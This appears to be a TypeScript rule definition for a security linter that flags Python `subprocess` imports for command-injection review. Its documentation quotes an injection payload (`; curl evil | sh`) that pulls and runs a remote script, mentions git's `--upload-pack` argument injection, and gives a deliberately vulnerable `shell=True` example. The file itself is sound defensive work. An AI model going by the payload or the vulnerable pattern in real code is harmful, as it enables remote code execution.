import { importBlacklistRule } from './blacklist';

export default importBlacklistRule({
  id: 'SEC404',
  name: 'subprocess-import',
  summary: '`subprocess` imported: every command it runs is a place to check for injection',
  owasp: { '2025': 'A05', '2021': 'A03' },
  cwe: [78],
  severity: 'info',
  confidence: 'high',
  aliases: ['B404', 'S404'],
  tags: ['command-injection'],
  enabledByDefault: false,
  skipTests: true,
  modules: ['subprocess'],
  // Exception handling and constants run nothing.
  harmless: { subprocess: ['CalledProcessError', 'TimeoutExpired', 'SubprocessError', 'CompletedProcess', 'PIPE', 'STDOUT', 'DEVNULL'] },
  message: (m) => `\`${m}\` is imported: review the commands it runs for injection`,
  docs: {
    what: 'Reports imports of `subprocess` (`import subprocess`, `import subprocess as sp`, `from subprocess import run`, `importlib.import_module("subprocess")`). An import used only for `CalledProcessError`, `TimeoutExpired`, `PIPE`, `STDOUT`, `DEVNULL` or `CompletedProcess` (typically to handle errors of a helper defined elsewhere) is not reported. Off by default; test files are skipped. The calls themselves are checked by SEC602 subprocess-shell-true and the other 6xx rules.',
    why: 'Running other programs is where a web request most directly becomes code execution: a file name, a branch name or a host name that reaches a shell command line can carry `; curl evil | sh`. Even without a shell, a value starting with `-` becomes an option of the called program (argument injection, e.g. `git`\'s `--upload-pack`). Listing the modules that start processes gives a reviewer the short list of places to look.',
    example: `import subprocess

def thumbnail(name):
    subprocess.run(f"convert uploads/{name} -resize 64x64 thumbs/{name}", shell=True)`,
    useInstead: `import subprocess

def thumbnail(name):
    subprocess.run(["convert", "--", f"uploads/{name}", "-resize", "64x64", f"thumbs/{name}"], check=True)`,
    references: [
      { title: 'Bandit B404: import_subprocess', url: 'https://bandit.readthedocs.io/en/latest/blacklists/blacklist_imports.html#b404-import-subprocess' },
      { title: 'Python docs: subprocess, security considerations', url: 'https://docs.python.org/3/library/subprocess.html#security-considerations' },
      { title: 'CWE-78: OS Command Injection', url: 'https://cwe.mitre.org/data/definitions/78.html' },
    ],
  },
});
